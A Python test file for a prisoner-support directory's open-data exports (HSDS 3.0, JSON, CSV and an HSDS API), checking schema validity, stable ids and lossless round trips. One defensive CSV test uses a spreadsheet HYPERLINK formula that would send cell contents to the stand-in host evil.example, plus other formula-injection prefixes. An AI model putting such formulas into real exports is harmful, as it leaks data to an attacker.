"""Open data formats: HSDS 3.0 (validity, stable ids, lossless), our JSON, CSV, HSDS API."""

from __future__ import annotations

import csv
import io
import json
import uuid

import jsonschema
import pytest
from sqlmodel import Session

from directory import catalogue
from directory.models import Organisation
from directory.opendata import hsds, hsds_schema, ourjson, tabular
from directory.records import OrganisationRecord
from directory.web.presenters import listing as presenters
from tests import factories
from tests.factories import SEED_COUNT
from tests.reference import reference_file

COMPILED_ORGANIZATION = "hsds-3.0/schema/compiled/organization.json"  # in ../shared/reference


@pytest.fixture(scope="module")
def compiled_organization_validator():
    schema = json.loads(reference_file(COMPILED_ORGANIZATION).read_text(encoding="utf-8"))
    validator = jsonschema.validators.validator_for(schema)
    validator.check_schema(schema)
    return validator(schema, format_checker=validator.FORMAT_CHECKER)


def full_record(**overrides) -> OrganisationRecord:
    """A listing with every field filled in, to show each one travels."""
    values = {
        "alternate_names": ["First Other Name", "Second Other Name", "Third"],
        "region": "Scotland",
        "city": "Glasgow",
        "areas_served": ["GB-SCT", "nationwide"],
        "areas_served_note": "Families visiting HMP Barlinnie",
        "prisons_served": ["HMP Barlinnie", "HMP Low Moss"],
        "phones": [
            {
                "number": "+44 800 254 0088",
                "kind": "helpline",
                "free": True,
                "free_note": "from UK landlines and mobiles",
                "hours": "Monday to Friday, 9am to 5pm",
                "source": "https://example.org/a",
                "source_date": "2024-05",
            },
            {"number": "+44 141 496 0000", "kind": "office"},
        ],
        "latitude": 55.86,
        "longitude": -4.25,
        "website": "https://example.org",
        "email": "post@example.org",
        "postal_address": "c/o A Bookshop\n1 Some Street\nGlasgow G1 1AA",
        "postal_address_accepts_prisoner_mail": True,
        "postal_address_note": "Stated by the group in 2024.",
        "letter_instructions": "Write with your name and prison number.",
        "how_to_ask": "Families can phone; people inside can write.",
        "opening_hours": "Open seven days a week",
        "languages": ["en", "gd"],
        "accessibility": "Large-print letters welcome.",
        "founded_year": 1999,
        "status": "unknown",
        "last_activity": "2024-03",
        "verified_on": "2026-01-02",
        "verified_by": "A. Moderator",
        "focus": ["women", "lgbtq"],
        "services": ["pen-pals", "books", "advice"],
        "sources": ["https://example.org/a", "https://example.org/b"],
        "citations": {
            "email": {"url": "https://example.org/a", "date": "2024"},
            "last_activity": {"url": "https://example.org/b", "date": "2024-03"},
        },
    }
    return factories.record(**{**values, **overrides})


def walk(value, path="organization"):
    """Every (path, value) in a JSON tree."""
    yield path, value
    if isinstance(value, dict):
        for key, item in value.items():
            yield from walk(item, f"{path}.{key}")
    elif isinstance(value, list):
        for number, item in enumerate(value):
            yield from walk(item, f"{path}[{number}]")


# HSDS: valid ---------------------------------------------------------------------------------


def test_every_seed_organisation_validates_against_compiled_hsds(
    seed_records, compiled_organization_validator
):
    for record in [*seed_records, full_record(), full_record(country="international")]:
        errors = [
            f"{'/'.join(map(str, error.path))}: {error.message}"
            for error in compiled_organization_validator.iter_errors(hsds.organization(record))
        ]
        assert errors == [], record.slug


def test_the_packaged_schema_accepts_every_seed_organisation(seed_records):
    for record in [*seed_records, full_record()]:
        assert hsds_schema.organization_problems(hsds.organization(record)) == [], record.slug


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda org: org.pop("name"), "organization: 'name' is a required property"),
        (lambda org: org.update(id="not-a-uuid"), "id: 'not-a-uuid' is not a 'uuid'"),
        (
            lambda org: org["services"][0].update(status="open"),
            "services[0].status: 'open' is not one of",
        ),
        (lambda org: org.update(website=None), "website: None is not of type 'string'"),
    ],
)
def test_the_packaged_schema_says_what_is_wrong(change, expected):
    organization = hsds.organization(full_record())
    change(organization)
    problems = hsds_schema.organization_problems(organization)
    assert any(problem.startswith(expected) for problem in problems), problems


def test_no_key_is_ever_null(seed_records):
    for record in [*seed_records, factories.record()]:
        nulls = [path for path, value in walk(hsds.organization(record)) if value is None]
        assert nulls == [], record.slug


# HSDS: the mapping ---------------------------------------------------------------------------


def test_native_hsds_fields_carry_what_they_can():
    record = full_record()
    organization = hsds.organization(record)
    assert organization["name"] == record.name
    assert organization["alternate_name"] == "First Other Name"
    assert organization["website"] == "https://example.org"
    assert organization["email"] == "post@example.org"
    assert organization["year_incorporated"] == 1999
    assert organization["organization_identifiers"][0]["identifier"] == record.slug
    (service,) = organization["services"]
    assert service["status"] == "active"  # HSDS has no "unknown"...
    assert "could not confirm" in service["alert"]  # ...so the alert says so
    assert service["assured_date"] == "2026-01-02"
    assert [language["code"] for language in service["languages"]] == ["en", "gd"]
    assert [area["name"] for area in service["service_areas"]] == [
        "Scotland",
        "Nationwide (United Kingdom)",
    ]
    assert [area["extent"] for area in service["service_areas"]] == ["GB-SCT", "nationwide"]


def test_locations_postal_virtual_and_where_the_group_is():
    locations = hsds.organization(full_record())["locations"]
    by_type = {location["location_type"]: location for location in locations}
    assert set(by_type) == {"physical", "postal", "virtual"}
    assert (by_type["physical"]["latitude"], by_type["physical"]["longitude"]) == (55.86, -4.25)
    assert by_type["physical"]["name"] == "Glasgow, Scotland, United Kingdom"
    (address,) = by_type["postal"]["addresses"]
    assert address["address_1"].startswith("c/o A Bookshop\n")
    assert (address["city"], address["country"], address["address_type"]) == (
        "Glasgow",
        "GB",
        "postal",
    )
    assert by_type["postal"]["description"] == "Stated by the group in 2024."
    assert by_type["virtual"]["url"] == "https://example.org"


def test_a_listing_with_no_address_website_or_place_has_no_locations():
    record = factories.record(city=None, website=None, postal_address=None)
    assert "locations" not in hsds.organization(record)


def terms(organization, where):
    return [
        (attribute["taxonomy_term"]["taxonomy"], attribute["taxonomy_term"]["code"])
        for attribute in where(organization).get("attributes", [])
    ]


def test_kind_focus_and_services_are_taxonomy_terms():
    organization = hsds.organization(full_record(kind="books-to-prisoners"))
    assert ("prisoner-support-directory/kind", "books-to-prisoners") in terms(
        organization, lambda org: org
    )
    service_terms = terms(organization, lambda org: org["services"][0])
    assert service_terms == [
        ("prisoner-support-directory/focus", "women"),
        ("prisoner-support-directory/focus", "lgbtq"),
        ("prisoner-support-directory/services", "pen-pals"),
        ("prisoner-support-directory/services", "books"),
        ("prisoner-support-directory/services", "advice"),
    ]
    term = organization["services"][0]["attributes"][0]["taxonomy_term"]
    assert term["name"] == "Women" and term["description"]


@pytest.mark.parametrize(
    ("ours", "theirs"), [("active", "active"), ("inactive", "inactive"), ("unknown", "active")]
)
def test_status_maps_onto_the_hsds_enum(ours, theirs):
    (service,) = hsds.organization(factories.record(status=ours))["services"]
    assert service["status"] == theirs
    assert ("alert" in service) == (ours == "unknown")


# HSDS: stable ids ----------------------------------------------------------------------------


def ids(organization):
    return [value for path, value in walk(organization) if path.endswith(".id")]


def test_ids_are_stable_uuids_that_depend_only_on_the_slug():
    record = full_record(slug="stable-group")
    first = hsds.organization(record)
    again = hsds.organization(record.model_copy())
    edited = hsds.organization(record.model_copy(update={"description": "Changed. " * 5}))
    assert ids(first) == ids(again) == ids(edited)
    for value in ids(first):
        assert uuid.UUID(value).version == 5
    assert first["id"] == str(uuid.uuid5(hsds.NAMESPACE, "organization/stable-group"))
    other = hsds.organization(record.model_copy(update={"slug": "another-group"}))
    assert other["id"] != first["id"]


def test_ids_are_unique_except_shared_taxonomy_terms(seed_records):
    seen: dict[str, str] = {}
    for record in seed_records:
        for path, value in walk(hsds.organization(record)):
            if not path.endswith(".id") or path.endswith("taxonomy_term.id"):
                continue
            assert value not in seen, (path, seen.get(value))
            seen[value] = path


def test_the_same_term_has_the_same_id_everywhere(seed_records):
    term_ids: dict[tuple[str, str], set[str]] = {}
    for record in seed_records:
        for _, value in walk(hsds.organization(record)):
            if isinstance(value, dict) and "taxonomy" in value and "code" in value:
                term_ids.setdefault((value["taxonomy"], value["code"]), set()).add(value["id"])
    assert term_ids and all(len(found) == 1 for found in term_ids.values())


# HSDS -> listing: lossless -------------------------------------------------------------------


def test_hsds_back_to_a_listing_is_lossless(seed_records):
    records = [*seed_records, full_record(), full_record(country="international", city=None)]
    for record in records:
        values = hsds.listing_values(hsds.organization(record))
        assert OrganisationRecord.model_validate(values) == record, record.slug


def test_hsds_from_elsewhere_is_read_as_far_as_it_goes():
    foreign = {
        "id": str(uuid.uuid4()),
        "name": "Elsewhere Prison Project",
        "description": "A project from another directory that visits people in prison.",
        "website": "https://elsewhere.example",
        "locations": [
            {
                "id": str(uuid.uuid4()),
                "location_type": "physical",
                "latitude": 51.5,
                "longitude": -0.1,
                "addresses": [
                    {
                        "id": str(uuid.uuid4()),
                        "address_1": "1 High Street",
                        "city": "London",
                        "state_province": "England",
                        "postal_code": "E1 1AA",
                        "country": "GB",
                        "address_type": "postal",
                    }
                ],
            }
        ],
        "services": [{"id": str(uuid.uuid4()), "name": "Visits", "status": "defunct"}],
    }
    assert hsds_schema.organization_problems(foreign) == []
    values = hsds.listing_values(foreign)
    assert values["slug"] == "elsewhere-prison-project"
    assert values["postal_address"] == "1 High Street\nLondon England E1 1AA"
    assert (values["country"], values["city"], values["region"]) == ("GB", "London", "England")
    assert (values["latitude"], values["longitude"]) == (51.5, -0.1)
    assert values["status"] == "inactive"
    assert values["kind"] is None and values["sources"] == []  # left for validation to report


# Our JSON and CSV ----------------------------------------------------------------------------


def test_our_json_is_the_api_shape_without_database_timestamps(seeded):
    with Session(seeded) as session:
        for organisation in catalogue.iter_all(session):
            api = presenters.organisation_json(organisation)
            api.pop("updated_at")
            assert ourjson.listing(organisation) == api


def test_our_json_back_to_a_listing_is_lossless(seed_records):
    for record in [*seed_records, full_record()]:
        exported = json.loads(json.dumps(ourjson.listing(record)))
        assert OrganisationRecord.model_validate(ourjson.listing_values(exported)) == record


def test_our_json_file_holds_every_listing(seed_records):
    out = io.StringIO()
    ourjson.write(seed_records, out)
    data = json.loads(out.getvalue())
    assert [item["slug"] for item in data["organisations"]] == [r.slug for r in seed_records]
    empty = io.StringIO()
    ourjson.write([], empty)
    assert json.loads(empty.getvalue()) == {"organisations": []}


def test_csv_has_a_header_and_one_row_per_organisation(seed_records):
    out = io.StringIO(newline="")
    tabular.write(seed_records, out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == list(OrganisationRecord.model_fields)
    assert len(rows) == len(seed_records) + 1
    assert not out.getvalue().startswith("\ufeff")


def test_csv_joins_lists_and_writes_plain_values():
    row = dict(zip(tabular.COLUMNS, tabular.row(full_record()), strict=True))
    assert row["services"] == "pen-pals | books | advice"
    assert row["postal_address_accepts_prisoner_mail"] == "true"
    assert row["verified_on"] == "2026-01-02"
    assert row["latitude"] == "55.86"
    assert tabular.row(factories.record(region=None))[tabular.COLUMNS.index("region")] == ""


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'


@pytest.mark.parametrize(
    "value", [FORMULA, "+1+1", "-1+1", "@SUM(1,1)", "\tx=1", "\rx=1", "=1\n2", "'=kept"]
)
def test_csv_cells_a_spreadsheet_would_run_are_escaped_with_a_quote(value):
    organisation = Organisation(**{**full_record().model_dump(), "name": value})
    out = io.StringIO(newline="")
    tabular.write([organisation], out)
    header, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
    cells = dict(zip(header, row, strict=True))
    expected = "'" + value  # one more in front of a quote too, so readers can take it off
    assert cells["name"] == expected
    assert '"' + expected.replace('"', '""') + '"' in out.getvalue()  # quoted, as OWASP says


def test_csv_escapes_lists_by_their_first_item_and_leaves_numbers_alone():
    record = full_record(alternate_names=["-Minus Group", "=Equals"], longitude=-4.25)
    row = dict(zip(tabular.COLUMNS, tabular.row(record), strict=True))
    assert row["alternate_names"] == "'-Minus Group | =Equals"
    assert row["longitude"] == "-4.25"  # a number, not a formula: kept for spreadsheets
    assert row["latitude"] == "55.86"
    assert row["name"] == record.name


# The HSDS API --------------------------------------------------------------------------------


def test_hsds_organizations_are_paginated_as_hsds_apis_are(client):
    first = client.get("/api/hsds/organizations", params={"per_page": 10}).json()
    pages = -(-SEED_COUNT // 10)
    assert (first["total_items"], first["total_pages"]) == (SEED_COUNT, pages)
    assert (first["page"], first["per_page"], first["page_number"], first["size"]) == (1, 10, 1, 10)
    assert (first["first_page"], first["last_page"], first["empty"]) == (True, False, False)
    assert len(first["contents"]) == 10
    last = client.get("/api/hsds/organizations", params={"per_page": 10, "page": pages}).json()
    assert len(last["contents"]) == SEED_COUNT - 10 * (pages - 1)
    assert (last["first_page"], last["last_page"]) == (False, True)
    beyond = client.get(
        "/api/hsds/organizations", params={"per_page": 10, "page": pages + 1}
    ).json()
    assert beyond["empty"] is True and beyond["contents"] == []
    every_page = [
        client.get("/api/hsds/organizations", params={"per_page": 10, "page": n}).json()
        for n in range(1, pages + 1)
    ]
    every_id = [org["id"] for page in every_page for org in page["contents"]]
    assert len(set(every_id)) == SEED_COUNT


def test_hsds_organizations_take_the_listing_filters(client):
    body = client.get("/api/hsds/organizations", params={"kind": "books-to-prisoners"}).json()
    assert len(body["contents"]) == min(body["total_items"], 20) > 0
    for organization in body["contents"]:
        assert ("prisoner-support-directory/kind", "books-to-prisoners") in terms(
            organization, lambda org: org
        )


@pytest.mark.parametrize("params", [{"per_page": 0}, {"page": "x"}, {"modified_after": "soon"}])
def test_hsds_organizations_refuse_bad_parameters(client, params):
    response = client.get("/api/hsds/organizations", params=params)
    assert response.status_code == 400
    assert response.json()["error"] == "invalid parameters"


def test_one_hsds_organization_by_id_or_slug(client):
    listed = client.get("/api/hsds/organizations", params={"per_page": 1}).json()["contents"][0]
    by_id = client.get(f"/api/hsds/organizations/{listed['id']}")
    assert by_id.status_code == 200 and by_id.json() == listed
    slug = listed["organization_identifiers"][0]["identifier"]
    assert client.get(f"/api/hsds/organizations/{slug}").json() == listed
    assert hsds_schema.organization_problems(by_id.json()) == []


@pytest.mark.parametrize("wanted", [str(uuid.uuid4()), "no-such-group"])
def test_an_unknown_hsds_organization_is_404(client, wanted):
    response = client.get(f"/api/hsds/organizations/{wanted}")
    assert response.status_code == 404
    assert response.json() == {"error": "No organization has that id."}


def test_hsds_responses_match_the_openapi_document(client):
    spec = client.get("/api/openapi.json").json()
    schemas = spec["components"]["schemas"]

    def check(body, name):
        jsonschema.validate(body, {**schemas[name], "components": {"schemas": schemas}})

    page = client.get("/api/hsds/organizations").json()
    check(page, "HsdsOrganizationPage")
    check(page["contents"][0], "HsdsOrganization")
    check(client.get("/api/hsds/organizations", params={"page": "x"}).json(), "Error")
